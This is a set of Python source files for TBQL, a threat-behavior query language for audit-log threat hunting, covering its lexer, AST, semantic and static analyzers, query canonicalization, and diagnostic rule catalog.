            analyzed.entities[declaration.identifier] = AnalyzedEntity(
                identifier=declaration.identifier,
                entity_type=declaration.entity_type,
                patterns=[event_id],
            )
            return
        if existing.entity_type is not declaration.entity_type:
            raise _fail(
                f"entity {declaration.identifier!r} is declared as "
                f"{existing.entity_type.value!r} and {declaration.entity_type.value!r}",
                declaration.span,
            )
        existing.patterns.append(event_id)

    # -- attribute resolution ------------------------------------------------------

    def _resolve_default_attributes(self, query: Query, analyzed: AnalyzedQuery) -> None:
        for pattern in query.patterns:
            for declaration in (pattern.subject, pattern.obj):
                if declaration.filter is not None:
                    self._resolve_filter(declaration.filter, declaration.entity_type)

    def _resolve_filter(self, expression: FilterExpression, entity_type: EntityType) -> None:
        if expression.comparison is not None:
            self._validate_comparison(expression.comparison, entity_type)
            return
        for child in expression.children:
            self._resolve_filter(child, entity_type)

    @staticmethod
    def _validate_comparison(comparison: AttributeComparison, entity_type: EntityType) -> None:
        attribute = comparison.attribute or DEFAULT_ATTRIBUTE[entity_type]
        valid = ENTITY_ATTRIBUTES[entity_type] + ("id", "type", "host")
        if attribute not in valid:
            raise _fail(
                f"attribute {attribute!r} does not exist for "
                f"{entity_type.value!r} entities (valid: {', '.join(valid)})",
                comparison.span,
            )

    # -- operations -----------------------------------------------------------------

    def _validate_operations(self, query: Query) -> None:
        for pattern in query.patterns:
            event_type = event_type_for_object(pattern.obj.entity_type)
            valid = OPERATIONS_BY_EVENT_TYPE[event_type]
            for name in pattern.operation.operations:
                try:
                    operation = Operation.from_string(name)
                except ValueError:
                    raise _fail(
                        f"event {pattern.event_id!r}: unknown operation {name!r}",
                        pattern.operation.span,
                    ) from None
                if operation not in valid:
                    raise _fail(
                        f"event {pattern.event_id!r}: operation {name!r} is not valid "
                        f"for {event_type.value!r} events",
                        pattern.operation.span,
                    )

    # -- with clause ------------------------------------------------------------------

    def _validate_with_clause(self, query: Query, analyzed: AnalyzedQuery) -> None:
        declared = set(analyzed.pattern_entities)
        for relation in query.temporal_relations:
            for event_id in (relation.left, relation.right):
                if event_id not in declared:
                    raise _fail(
                        f"with clause references undeclared event {event_id!r}",
                        relation.span,
                    )
            if relation.left == relation.right:
                raise _fail(
                    f"temporal relation relates event {relation.left!r} to itself",
                    relation.span,
                )
        for attribute_relation in query.attribute_relations:
            for event_id in (attribute_relation.left_event, attribute_relation.right_event):
                if event_id not in declared:
                    raise _fail(
                        f"with clause references undeclared event {event_id!r}",
                        attribute_relation.span,
                    )
            for attribute in (
                attribute_relation.left_attribute,
                attribute_relation.right_attribute,
            ):
                if attribute not in EVENT_ATTRIBUTES:
                    raise _fail(
                        f"unknown event attribute {attribute!r} in attribute relationship "
                        f"(valid: {', '.join(EVENT_ATTRIBUTES)})",
                        attribute_relation.span,
                    )

    # -- return clause -----------------------------------------------------------------

    def _resolve_return_items(self, query: Query, analyzed: AnalyzedQuery) -> None:
        if not query.return_items:
            raise TBQLSemanticError("the return clause is empty")
        resolved: list[ReturnItem] = []
        for item in query.return_items:
            entity = analyzed.entities.get(item.identifier)
            if entity is None:
                raise _fail(
                    f"return clause references undeclared entity {item.identifier!r}",
                    item.span,
                )
            attribute = item.attribute or DEFAULT_ATTRIBUTE[entity.entity_type]
            valid = ENTITY_ATTRIBUTES[entity.entity_type] + ("id",)
            if attribute not in valid:
                raise _fail(
                    f"return item {item.identifier}.{attribute}: attribute does not exist "
                    f"for {entity.entity_type.value!r} entities",
                    item.span,
                )
            resolved.append(
                ReturnItem(identifier=item.identifier, attribute=attribute, span=item.span)
            )
        query.return_items = resolved

    # -- implied joins ------------------------------------------------------------------

    def _compute_implied_joins(self, analyzed: AnalyzedQuery) -> None:
        """Record the attribute relationships implied by entity identifier reuse.

        For every entity used by multiple patterns, consecutive pattern pairs
        get an equality between the event columns holding that entity's id
        (``srcid`` when the entity is the pattern's subject, ``dstid`` when it
        is the object).
        """
        for entity in analyzed.entities.values():
            if len(entity.patterns) < 2:
                continue
            for first_event, second_event in zip(entity.patterns, entity.patterns[1:]):
                first_role = self._role_column(analyzed, first_event, entity.identifier)
                second_role = self._role_column(analyzed, second_event, entity.identifier)
                analyzed.implied_joins.append(
                    (first_event, first_role, second_event, second_role, entity.identifier)
                )

    @staticmethod
    def _role_column(analyzed: AnalyzedQuery, event_id: str, identifier: str) -> str:
        subject_id, object_id = analyzed.pattern_entities[event_id]
        return "srcid" if identifier == subject_id else "dstid"


def analyze(query: Query) -> AnalyzedQuery:
    """Module-level convenience wrapper around :class:`SemanticAnalyzer`."""
    return SemanticAnalyzer().analyze(query)
