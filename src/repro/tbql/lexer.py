"""Lexer for TBQL (hand-written; ANTLR 4 substitute).

The token stream feeds the recursive-descent parser in
:mod:`repro.tbql.parser`.  Keywords are case-insensitive; identifiers,
strings and numbers follow conventional rules.  Every token carries its line
and column for error reporting.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.errors import TBQLSyntaxError


class TokenType(enum.Enum):
    """TBQL token categories."""

    KEYWORD = "keyword"
    IDENTIFIER = "identifier"
    STRING = "string"
    NUMBER = "number"
    OPERATOR = "operator"
    LBRACKET = "lbracket"
    RBRACKET = "rbracket"
    LPAREN = "lparen"
    RPAREN = "rparen"
    COMMA = "comma"
    DOT = "dot"
    ARROW = "arrow"  # ~>
    TILDE = "tilde"
    EOF = "eof"


#: Reserved keywords (lowercased).
KEYWORDS = frozenset(
    {
        "proc",
        "file",
        "ip",
        "as",
        "with",
        "return",
        "distinct",
        "before",
        "after",
        "and",
        "or",
        "not",
        "like",
        "during",
    }
)

#: Multi-character operators, longest first so the scanner is greedy.
_OPERATORS = ("<=", ">=", "!=", "<>", "==", "&&", "||", "=", "<", ">")


@dataclass(frozen=True)
class TBQLToken:
    """One lexical token."""

    type: TokenType
    value: str
    line: int
    column: int

    def is_keyword(self, word: str) -> bool:
        return self.type is TokenType.KEYWORD and self.value == word


class Lexer:
    """Converts TBQL source text into a token list."""

    def __init__(self, source: str) -> None:
        self._source = source
        self._position = 0
        self._line = 1
        self._column = 1

    def tokenize(self) -> list[TBQLToken]:
        """Tokenise the whole source, appending a trailing EOF token.

        Raises:
            TBQLSyntaxError: on unterminated strings or unexpected characters.
        """
        tokens: list[TBQLToken] = []
        while self._position < len(self._source):
            char = self._source[self._position]
            if char in " \t\r":
                self._advance(1)
                continue
            if char == "\n":
                self._position += 1
                self._line += 1
                self._column = 1
                continue
            if char == "#" or self._source.startswith("//", self._position):
                self._skip_comment()
                continue
            if char in "\"'":
                tokens.append(self._read_string(char))
                continue
            if char.isdigit():
                tokens.append(self._read_number())
                continue
            if char.isalpha() or char == "_":
                tokens.append(self._read_word())
                continue
            if self._source.startswith("~>", self._position):
                tokens.append(self._make(TokenType.ARROW, "~>"))
                self._advance(2)
                continue
            if char == "~":
                tokens.append(self._make(TokenType.TILDE, "~"))
                self._advance(1)
                continue
            matched_operator = next(
                (op for op in _OPERATORS if self._source.startswith(op, self._position)),
                None,
            )
            if matched_operator is not None:
                tokens.append(self._make(TokenType.OPERATOR, matched_operator))
                self._advance(len(matched_operator))
                continue
            single = {
                "[": TokenType.LBRACKET,
                "]": TokenType.RBRACKET,
                "(": TokenType.LPAREN,
                ")": TokenType.RPAREN,
                ",": TokenType.COMMA,
                ".": TokenType.DOT,
            }.get(char)
            if single is not None:
                tokens.append(self._make(single, char))
                self._advance(1)
                continue
            raise TBQLSyntaxError(
                f"unexpected character {char!r}", line=self._line, column=self._column
            )
        tokens.append(self._make(TokenType.EOF, ""))
        return tokens

    # -- internals -------------------------------------------------------------

    def _make(self, token_type: TokenType, value: str) -> TBQLToken:
        return TBQLToken(type=token_type, value=value, line=self._line, column=self._column)

    def _advance(self, count: int) -> None:
        self._position += count
        self._column += count

    def _skip_comment(self) -> None:
        while self._position < len(self._source) and self._source[self._position] != "\n":
            self._position += 1

    def _read_string(self, quote: str) -> TBQLToken:
        start_line, start_column = self._line, self._column
        self._advance(1)
        value: list[str] = []
        while self._position < len(self._source):
            char = self._source[self._position]
            if char == "\\" and self._position + 1 < len(self._source):
                value.append(self._source[self._position + 1])
                self._advance(2)
                continue
            if char == quote:
                self._advance(1)
                return TBQLToken(
                    type=TokenType.STRING,
                    value="".join(value),
                    line=start_line,
                    column=start_column,
                )
            if char == "\n":
                break
            value.append(char)
            self._advance(1)
        raise TBQLSyntaxError("unterminated string literal", line=start_line, column=start_column)

    def _read_number(self) -> TBQLToken:
        start_line, start_column = self._line, self._column
        start = self._position
        while self._position < len(self._source) and (
            self._source[self._position].isdigit() or self._source[self._position] == "."
        ):
            self._advance(1)
        text = self._source[start : self._position]
        return TBQLToken(type=TokenType.NUMBER, value=text, line=start_line, column=start_column)

    def _read_word(self) -> TBQLToken:
        start_line, start_column = self._line, self._column
        start = self._position
        while self._position < len(self._source) and (
            self._source[self._position].isalnum() or self._source[self._position] == "_"
        ):
            self._advance(1)
        word = self._source[start : self._position]
        lowered = word.lower()
        if lowered in KEYWORDS:
            return TBQLToken(
                type=TokenType.KEYWORD, value=lowered, line=start_line, column=start_column
            )
        return TBQLToken(
            type=TokenType.IDENTIFIER, value=word, line=start_line, column=start_column
        )


def tokenize(source: str) -> list[TBQLToken]:
    """Module-level convenience wrapper around :class:`Lexer`."""
    return Lexer(source).tokenize()
