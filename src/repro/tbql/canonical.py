"""Canonical TBQL query form — the dedup key for corpus-scale hunting.

Synthesized queries from overlapping OSCTI reports frequently describe the
same threat behavior: the same advisory republished by two feeds, a defanged
rendition of the same attack chain, a walk-through that differs only in the
entity identifiers the synthesizer happened to assign.  Registering each as
its own standing hunt would multiply per-batch evaluation cost for zero new
coverage.

:func:`canonicalize_query` rewrites a query into a stable canonical form:

* entity identifiers are renamed in first-use order with their type prefix
  (``p1``, ``f1``, ``i1``, …) and event ids are renumbered ``evt1``..``evtN``
  in pattern order;
* filter comparisons inside ``and``/``or`` combinators are sorted;
* ``with``-clause temporal relations are rewritten to ``before`` form and
  sorted, as are attribute relations.

Pattern order is preserved — it carries the temporal semantics of the attack
chain, so two reports describing the steps in a different order are *not*
equivalent.

:func:`canonical_query_key` renders the canonical form to text and appends
each pattern's ``(pattern, constraint shape)`` plan-cache key (reused from
:mod:`repro.tbql.prepared`), yielding one string under which semantically
equivalent queries collide — and therefore share one
:class:`~repro.tbql.prepared.PreparedQuery` and one standing hunt.
"""

from __future__ import annotations

from dataclasses import replace

from repro.auditing.entities import EntityType
from repro.tbql.ast import (
    AttributeRelation,
    EntityDeclaration,
    FilterExpression,
    FilterOperator,
    Query,
    ReturnItem,
    TemporalRelation,
)
from repro.tbql.filters import _is_wildcard
from repro.tbql.formatter import format_query
from repro.tbql.prepared import pattern_constraint_shape

#: Identifier prefixes per entity type, matching the synthesizer's convention.
_IDENTIFIER_PREFIX = {
    EntityType.PROCESS: "p",
    EntityType.FILE: "f",
    EntityType.NETWORK: "i",
}


def _comparison_sort_key(expression: FilterExpression) -> tuple:
    if expression.comparison is not None:
        comparison = expression.comparison
        return (0, comparison.attribute, comparison.operator.value, str(comparison.value))
    return (1, expression.combinator, tuple(_comparison_sort_key(c) for c in expression.children))


def _sorted_filter(expression: FilterExpression | None) -> FilterExpression | None:
    """Sort combinator children and normalize operators.

    ``like`` is rewritten to ``=`` only where the two are provably
    equivalent: over a *wildcard* string value execution compiles both to the
    same ``Like`` expression
    (:func:`repro.tbql.filters.comparison_to_expression`), and over a
    *case-invariant* value (no letters — IPs, ids) ``Like``'s
    case-insensitive exact match cannot differ from equality.  ``=`` is what
    the parser produces for the shorthand form, so the canonical AST
    round-trips through ``format_query`` → ``parse_query`` unchanged.  A
    ``like`` over a non-wildcard value *with* letters is left alone — there
    the operator does change semantics (``Like`` matches case-insensitively,
    ``=`` does not), so rewriting it would alter what the registered hunt
    matches.
    """
    if expression is None:
        return None
    if expression.comparison is not None:
        comparison = expression.comparison
        value = comparison.value
        rewritable = _is_wildcard(value) or (
            isinstance(value, str) and value.lower() == value.upper()
        )
        if comparison.operator is FilterOperator.LIKE and rewritable:
            return replace(
                expression, comparison=replace(comparison, operator=FilterOperator.EQ)
            )
        return expression
    children = tuple(
        sorted((_sorted_filter(child) for child in expression.children), key=_comparison_sort_key)
    )
    return replace(expression, children=children)


def _event_sort_key(event_id: str) -> tuple[int, str]:
    return (len(event_id), event_id)


class _Renamer:
    """Stable first-use renaming of entity identifiers."""

    def __init__(self) -> None:
        self._renamed: dict[str, str] = {}
        self._counters: dict[str, int] = {}

    def declaration(self, declaration: EntityDeclaration) -> EntityDeclaration:
        new_id = self._renamed.get(declaration.identifier)
        if new_id is None:
            prefix = _IDENTIFIER_PREFIX.get(declaration.entity_type, "x")
            self._counters[prefix] = self._counters.get(prefix, 0) + 1
            new_id = f"{prefix}{self._counters[prefix]}"
            self._renamed[declaration.identifier] = new_id
        return replace(
            declaration, identifier=new_id, filter=_sorted_filter(declaration.filter)
        )

    def identifier(self, identifier: str) -> str:
        return self._renamed.get(identifier, identifier)


def canonicalize_query(query: Query) -> Query:
    """Return an equivalent query in canonical (dedup-stable) form."""
    renamer = _Renamer()
    event_rename: dict[str, str] = {}
    patterns = []
    for index, pattern in enumerate(query.patterns, start=1):
        new_event_id = f"evt{index}"
        event_rename[pattern.event_id] = new_event_id
        patterns.append(
            replace(
                pattern,
                subject=renamer.declaration(pattern.subject),
                obj=renamer.declaration(pattern.obj),
                event_id=new_event_id,
            )
        )

    temporal: list[TemporalRelation] = []
    for relation in query.temporal_relations:
        normalized = relation.normalized()
        temporal.append(
            TemporalRelation(
                left=event_rename.get(normalized.left, normalized.left),
                relation="before",
                right=event_rename.get(normalized.right, normalized.right),
            )
        )
    temporal.sort(key=lambda r: (_event_sort_key(r.left), _event_sort_key(r.right)))

    attributes: list[AttributeRelation] = []
    for relation in query.attribute_relations:
        attributes.append(
            replace(
                relation,
                left_event=event_rename.get(relation.left_event, relation.left_event),
                right_event=event_rename.get(relation.right_event, relation.right_event),
            )
        )
    attributes.sort(
        key=lambda r: (
            _event_sort_key(r.left_event),
            r.left_attribute,
            _event_sort_key(r.right_event),
            r.right_attribute,
        )
    )

    return_items = [
        ReturnItem(identifier=renamer.identifier(item.identifier), attribute=item.attribute)
        for item in query.return_items
    ]

    return Query(
        patterns=patterns,
        temporal_relations=temporal,
        attribute_relations=attributes,
        return_items=return_items,
        distinct=query.distinct,
    )


def render_canonical_key(canonical: Query) -> str:
    """The dedup key for an *already canonical* query.

    The key is the canonical form rendered to TBQL text, plus each pattern's
    ``(pattern, constraint shape)`` plan-cache key from
    :func:`repro.tbql.prepared.pattern_constraint_shape`.  Callers that hold
    the canonical form (the corpus planner registers it) use this directly so
    the AST rewrite runs once, not twice.
    """
    shapes = ";".join(
        ",".join(str(part) for part in pattern_constraint_shape(pattern, pattern.window))
        for pattern in canonical.patterns
    )
    return f"{format_query(canonical)}\n-- shapes: {shapes}"


def canonical_query_key(query: Query) -> str:
    """One string under which semantically equivalent queries collide."""
    return render_canonical_key(canonicalize_query(query))


__all__ = ["canonical_query_key", "canonicalize_query", "render_canonical_key"]
