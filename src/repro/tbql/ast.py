"""Abstract syntax tree for the Threat Behavior Query Language (TBQL).

TBQL treats system entities and system events as first-class citizens.  A
query consists of:

* one or more **event patterns** — ``⟨subject, operation, object⟩`` with
  optional attribute filters on the entities, an ``as`` identifier for the
  event, and an optional time window;
* optional **event path patterns** — variable-length paths
  ``proc p ~>(min~max)[op] file f`` whose final hop carries the operation;
* an optional ``with`` clause stating temporal relationships (``evt1 before
  evt2``) and explicit attribute relationships (``evt1.srcid = evt2.srcid``);
* a ``return`` clause projecting entity attributes, with optional
  ``distinct``.

Syntactic sugar handled at the semantic level (not here): omitted attribute
names in entity filters and return items default to the per-type default
attribute, and reusing an entity identifier across patterns implies the
corresponding attribute relationship.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Union

from repro.auditing.entities import EntityType


@dataclass(frozen=True)
class SourceSpan:
    """Position of a construct in TBQL source text (1-based line/column).

    Attached to AST nodes by the parser and carried into semantic and static
    analysis diagnostics so every error renders with a uniform location.  Spans
    are excluded from equality/repr: two queries that differ only in layout
    compare equal, which the formatter round-trip tests rely on.
    """

    line: int
    column: int

    def __str__(self) -> str:
        return f"line {self.line}, column {self.column}"


class FilterOperator(enum.Enum):
    """Comparison operators allowed in attribute filters."""

    EQ = "="
    NEQ = "!="
    LT = "<"
    LTE = "<="
    GT = ">"
    GTE = ">="
    LIKE = "like"

    @classmethod
    def from_symbol(cls, symbol: str) -> "FilterOperator":
        mapping = {
            "=": cls.EQ,
            "==": cls.EQ,
            "!=": cls.NEQ,
            "<>": cls.NEQ,
            "<": cls.LT,
            "<=": cls.LTE,
            ">": cls.GT,
            ">=": cls.GTE,
            "like": cls.LIKE,
        }
        return mapping[symbol.lower()]


@dataclass(frozen=True)
class AttributeComparison:
    """One attribute comparison, e.g. ``exename = "%/bin/tar%"``.

    ``attribute`` may be empty, meaning "the default attribute of the entity's
    type" (resolved during semantic analysis).  String values containing ``%``
    or ``_`` are matched with LIKE semantics regardless of the operator
    written, mirroring the paper's examples where ``p1["%/bin/tar%"]`` is a
    wildcard match.
    """

    attribute: str
    operator: FilterOperator
    value: Union[str, int, float]
    span: SourceSpan | None = field(default=None, compare=False, repr=False)


@dataclass(frozen=True)
class FilterExpression:
    """A boolean combination of attribute comparisons.

    ``combinator`` is ``"and"`` or ``"or"``; leaves have an empty ``children``
    tuple and a non-None ``comparison``.
    """

    comparison: AttributeComparison | None = None
    combinator: str = ""
    children: tuple["FilterExpression", ...] = ()

    @staticmethod
    def leaf(comparison: AttributeComparison) -> "FilterExpression":
        return FilterExpression(comparison=comparison)

    @staticmethod
    def combine(combinator: str, children: list["FilterExpression"]) -> "FilterExpression":
        if len(children) == 1:
            return children[0]
        return FilterExpression(combinator=combinator, children=tuple(children))

    def comparisons(self) -> list[AttributeComparison]:
        """All leaf comparisons in the expression (for constraint counting)."""
        if self.comparison is not None:
            return [self.comparison]
        found: list[AttributeComparison] = []
        for child in self.children:
            found.extend(child.comparisons())
        return found


@dataclass(frozen=True)
class EntityDeclaration:
    """An entity reference in a pattern: type, identifier, optional filter."""

    entity_type: EntityType
    identifier: str
    filter: FilterExpression | None = None
    span: SourceSpan | None = field(default=None, compare=False, repr=False)

    def constraint_count(self) -> int:
        """Number of attribute comparisons declared on this entity."""
        return len(self.filter.comparisons()) if self.filter is not None else 0


@dataclass(frozen=True)
class OperationExpression:
    """The operation part of a pattern: one or more operation names ORed."""

    operations: tuple[str, ...]
    negated: bool = False
    span: SourceSpan | None = field(default=None, compare=False, repr=False)

    def constraint_count(self) -> int:
        return 1


@dataclass(frozen=True)
class TimeWindow:
    """Optional time window constraining an event pattern."""

    start: int
    end: int


@dataclass(frozen=True)
class EventPattern:
    """A single-hop event pattern ⟨subject, operation, object⟩ ``as`` id."""

    subject: EntityDeclaration
    operation: OperationExpression
    obj: EntityDeclaration
    event_id: str
    window: TimeWindow | None = None
    span: SourceSpan | None = field(default=None, compare=False, repr=False)

    def constraint_count(self) -> int:
        """Total declared constraints, used for the pruning score."""
        count = self.subject.constraint_count() + self.obj.constraint_count()
        count += self.operation.constraint_count()
        if self.window is not None:
            count += 1
        return count

    def entity_identifiers(self) -> tuple[str, str]:
        return (self.subject.identifier, self.obj.identifier)


@dataclass(frozen=True)
class PathPattern:
    """A variable-length event path pattern ``proc p ~>(m~n)[op] file f``."""

    subject: EntityDeclaration
    operation: OperationExpression
    obj: EntityDeclaration
    event_id: str
    min_length: int = 1
    max_length: int = 5
    window: TimeWindow | None = None
    span: SourceSpan | None = field(default=None, compare=False, repr=False)

    def constraint_count(self) -> int:
        count = self.subject.constraint_count() + self.obj.constraint_count()
        count += self.operation.constraint_count()
        if self.window is not None:
            count += 1
        return count

    def entity_identifiers(self) -> tuple[str, str]:
        return (self.subject.identifier, self.obj.identifier)


Pattern = Union[EventPattern, PathPattern]


@dataclass(frozen=True)
class TemporalRelation:
    """``left before right`` / ``left after right`` between two event ids."""

    left: str
    relation: str  # "before" or "after"
    right: str
    span: SourceSpan | None = field(default=None, compare=False, repr=False)

    def normalized(self) -> "TemporalRelation":
        """Return the relation rewritten to use ``before`` only."""
        if self.relation == "after":
            return TemporalRelation(
                left=self.right, relation="before", right=self.left, span=self.span
            )
        return self


@dataclass(frozen=True)
class AttributeRelation:
    """``evt1.srcid = evt2.srcid`` — an explicit cross-pattern attribute link."""

    left_event: str
    left_attribute: str
    operator: FilterOperator
    right_event: str
    right_attribute: str
    span: SourceSpan | None = field(default=None, compare=False, repr=False)


@dataclass(frozen=True)
class ReturnItem:
    """One projection item: an entity identifier with an optional attribute."""

    identifier: str
    attribute: str = ""
    span: SourceSpan | None = field(default=None, compare=False, repr=False)


@dataclass
class Query:
    """A complete TBQL query."""

    patterns: list[Pattern] = field(default_factory=list)
    temporal_relations: list[TemporalRelation] = field(default_factory=list)
    attribute_relations: list[AttributeRelation] = field(default_factory=list)
    return_items: list[ReturnItem] = field(default_factory=list)
    distinct: bool = False

    def event_patterns(self) -> list[EventPattern]:
        return [pattern for pattern in self.patterns if isinstance(pattern, EventPattern)]

    def path_patterns(self) -> list[PathPattern]:
        return [pattern for pattern in self.patterns if isinstance(pattern, PathPattern)]

    def pattern_by_event_id(self, event_id: str) -> Pattern | None:
        for pattern in self.patterns:
            if pattern.event_id == event_id:
                return pattern
        return None

    def entity_identifiers(self) -> list[str]:
        """Every distinct entity identifier, in first-appearance order."""
        seen: list[str] = []
        for pattern in self.patterns:
            for identifier in pattern.entity_identifiers():
                if identifier not in seen:
                    seen.append(identifier)
        return seen
