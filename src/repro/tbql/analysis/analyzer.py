"""The multi-pass TBQL static analyzer.

:class:`StaticAnalyzer` runs after :mod:`repro.tbql.semantics` (the query must
already be semantically valid) and before any plan is prepared or hunt
registered.  It chains four passes — satisfiability, dead/redundant
predicates, cost/cardinality, cross-backend portability — over a shared
:class:`AnalysisContext`, applies the :class:`AnalysisPolicy` to the emitted
diagnostics and returns an :class:`AnalysisReport`.

The analyzer never raises on findings; gating is the caller's decision via
:meth:`AnalysisReport.raise_for_errors` (see the execution engine's
``analysis_mode``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Mapping, Protocol

from repro.auditing.entities import DEFAULT_ATTRIBUTE, EntityType
from repro.tbql.analysis.cost import CostPass, store_statistics
from repro.tbql.analysis.deadcode import DeadCodePass
from repro.tbql.analysis.diagnostics import (
    AnalysisPolicy,
    AnalysisReport,
    Diagnostic,
    sort_diagnostics,
)
from repro.tbql.analysis.portability import PortabilityPass
from repro.tbql.analysis.satisfiability import SatisfiabilityPass
from repro.tbql.ast import Query
from repro.tbql.compiler.cypher_compiler import CypherCompiler
from repro.tbql.compiler.sql_compiler import SQLCompiler
from repro.tbql.formatter import format_query
from repro.tbql.parser import parse_query
from repro.tbql.semantics import AnalyzedQuery, SemanticAnalyzer


@dataclass
class AnalysisContext:
    """Everything a pass may consult about the query under analysis."""

    query: Query
    analyzed: AnalyzedQuery
    policy: AnalysisPolicy
    backend: str = "auto"
    #: Combined backend statistics (``AuditStore.statistics()`` shape), or
    #: ``None`` when analyzing without a store — stats-backed rules skip then.
    statistics: Mapping[str, Any] | None = None

    @staticmethod
    def default_attribute(entity_type: EntityType) -> str:
        """The attribute an empty filter attribute name resolves to."""
        return DEFAULT_ATTRIBUTE[entity_type]


class AnalysisPass(Protocol):
    """One analysis pass: context in, diagnostics out."""

    name: str

    def run(self, context: AnalysisContext) -> list[Diagnostic]: ...


class StaticAnalyzer:
    """Runs every analysis pass over a query and applies the policy.

    Args:
        store: Optional :class:`~repro.storage.loader.AuditStore` whose index
            statistics feed the cost pass; rules needing statistics are
            skipped without one.
        backend: The execution backend the query will run on (``"auto"``,
            ``"relational"`` or ``"graph"``) — decides whether graph-only
            limitations are errors or portability warnings.
        policy: Severity/threshold policy; :meth:`AnalysisPolicy.default`
            when omitted.
        sql_compiler / cypher_compiler: Compiler overrides for the
            portability pass (tests inject failing compilers here).

    Reports are memoized per (formatted query text, store event count):
    the admission gate analyzes the same query at corpus registration, at
    monitor registration and again at plan preparation, and a frozen
    :class:`AnalysisReport` is safe to share between those callers.  The
    event count invalidates cached cost diagnostics when the store grows;
    stores without the :class:`AuditStore` shape never hit the cache.
    """

    _CACHE_LIMIT = 128

    def __init__(
        self,
        store: Any = None,
        backend: str = "auto",
        policy: AnalysisPolicy | None = None,
        sql_compiler: SQLCompiler | None = None,
        cypher_compiler: CypherCompiler | None = None,
    ) -> None:
        self._store = store
        self._backend = backend
        self.policy = policy or AnalysisPolicy.default()
        self._semantics = SemanticAnalyzer()
        self._cache: dict[tuple[str, Any], AnalysisReport] = {}
        self._passes: tuple[AnalysisPass, ...] = (
            SatisfiabilityPass(),
            DeadCodePass(),
            CostPass(),
            PortabilityPass(sql_compiler=sql_compiler, cypher_compiler=cypher_compiler),
        )

    def _store_token(self) -> Any:
        """A cheap equality token for the store's analyzer-visible state."""
        if self._store is None:
            return None
        if not hasattr(self._store, "loaded_trace"):
            # Unknown store shape — no way to detect staleness, so make the
            # token unique and let every lookup miss.
            return object()
        trace = self._store.loaded_trace
        count = len(trace.events) if trace is not None else 0
        return (id(self._store), count)

    def analyze(
        self, query: Query | str, analyzed: AnalyzedQuery | None = None
    ) -> AnalysisReport:
        """Run all passes over ``query`` (source text or AST).

        Raises:
            TBQLSyntaxError: when source text does not parse.
            TBQLSemanticError: when the query is semantically invalid —
                static analysis presumes a semantically valid query.
        """
        ast = parse_query(query) if isinstance(query, str) else query
        text = format_query(ast)
        key = (text, self._store_token())
        cached = self._cache.get(key)
        if cached is not None:
            return cached
        if analyzed is None:
            analyzed = self._semantics.analyze(ast)
        context = AnalysisContext(
            query=ast,
            analyzed=analyzed,
            policy=self.policy,
            backend=self._backend,
            statistics=store_statistics(self._store),
        )
        raw: list[Diagnostic] = []
        for analysis_pass in self._passes:
            raw.extend(analysis_pass.run(context))
        filtered = [
            effective
            for diagnostic in raw
            if (effective := self.policy.effective(diagnostic)) is not None
        ]
        # Semantic analysis normalizes the AST in place (e.g. bare return
        # items gain their default attribute), so the query can format
        # differently after it.  Cache under both texts: the gate analyzes
        # the same query again post-normalization at registration and
        # preparation time, and those lookups must hit.
        normalized = format_query(ast)
        report = AnalysisReport(diagnostics=sort_diagnostics(filtered), query_text=normalized)
        if len(self._cache) >= self._CACHE_LIMIT:
            self._cache.clear()
        self._cache[key] = report
        self._cache[(normalized, key[1])] = report
        return report


def analyze_query(
    query: Query | str,
    store: Any = None,
    backend: str = "auto",
    policy: AnalysisPolicy | None = None,
) -> AnalysisReport:
    """Module-level convenience wrapper around :class:`StaticAnalyzer`."""
    return StaticAnalyzer(store=store, backend=backend, policy=policy).analyze(query)
