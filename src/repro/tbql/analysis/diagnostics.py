"""Diagnostic records and severity policy for TBQL static analysis.

Every analysis pass emits :class:`Diagnostic` records — a stable rule id, a
severity, a message, a source span (when the query came from source text) and
a fix hint.  :class:`AnalysisPolicy` maps rule ids to effective severities so
deployments can promote, demote or disable individual rules;
:class:`AnalysisReport` aggregates the policy-filtered diagnostics for one
query and is what the gates in front of preparation and hunt registration
consume.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Iterator, Mapping

from repro.errors import TBQLAnalysisError
from repro.tbql.ast import SourceSpan


class Severity(enum.Enum):
    """Diagnostic severity: only ``ERROR`` gates query admission."""

    ERROR = "error"
    WARNING = "warning"
    INFO = "info"

    @property
    def rank(self) -> int:
        """Sort key: errors first."""
        return {"error": 0, "warning": 1, "info": 2}[self.value]


@dataclass(frozen=True)
class RuleSpec:
    """Catalog entry for one analysis rule."""

    rule: str
    severity: Severity
    title: str
    analysis_pass: str  # "satisfiability" | "deadcode" | "cost" | "portability"


#: The full rule catalog.  Rule ids are stable API: tests, the README catalog
#: and deployment policies all key on them.
RULES: dict[str, RuleSpec] = {
    spec.rule: spec
    for spec in (
        # -- pass 1: satisfiability (TR1xx) --------------------------------------
        RuleSpec("TR101", Severity.ERROR, "contradictory value range", "satisfiability"),
        RuleSpec("TR102", Severity.ERROR, "equality conflict", "satisfiability"),
        RuleSpec("TR103", Severity.ERROR, "LIKE pattern conflict", "satisfiability"),
        RuleSpec("TR104", Severity.ERROR, "temporal ordering cycle", "satisfiability"),
        RuleSpec("TR105", Severity.ERROR, "time window excludes event ordering", "satisfiability"),
        RuleSpec(
            "TR106", Severity.ERROR, "contradictory attribute relation", "satisfiability"
        ),
        # -- pass 2: dead / redundant predicates (TR2xx) -------------------------
        RuleSpec("TR201", Severity.WARNING, "duplicate predicate", "deadcode"),
        RuleSpec("TR202", Severity.WARNING, "subsumed predicate", "deadcode"),
        RuleSpec("TR203", Severity.WARNING, "duplicate with-clause relation", "deadcode"),
        RuleSpec("TR204", Severity.INFO, "redundant transitive temporal relation", "deadcode"),
        RuleSpec("TR205", Severity.INFO, "unconstrained unused entity", "deadcode"),
        RuleSpec("TR206", Severity.INFO, "entity filter repeated across patterns", "deadcode"),
        # -- pass 3: cost / cardinality (TR3xx) ----------------------------------
        RuleSpec("TR301", Severity.WARNING, "standing query cannot be windowed", "cost"),
        RuleSpec("TR302", Severity.WARNING, "unanchored multi-hop path pattern", "cost"),
        RuleSpec("TR303", Severity.WARNING, "cross-product between pattern groups", "cost"),
        RuleSpec("TR304", Severity.WARNING, "unselective full scan", "cost"),
        # -- pass 4: cross-backend portability (TR4xx) ---------------------------
        RuleSpec("TR401", Severity.INFO, "pattern cannot lower to SQL", "portability"),
        RuleSpec("TR402", Severity.ERROR, "negation unsupported on graph backend", "portability"),
        RuleSpec("TR403", Severity.ERROR, "pattern fails to compile", "portability"),
    )
}


@dataclass(frozen=True)
class Diagnostic:
    """One finding from a static-analysis pass."""

    rule: str
    severity: Severity
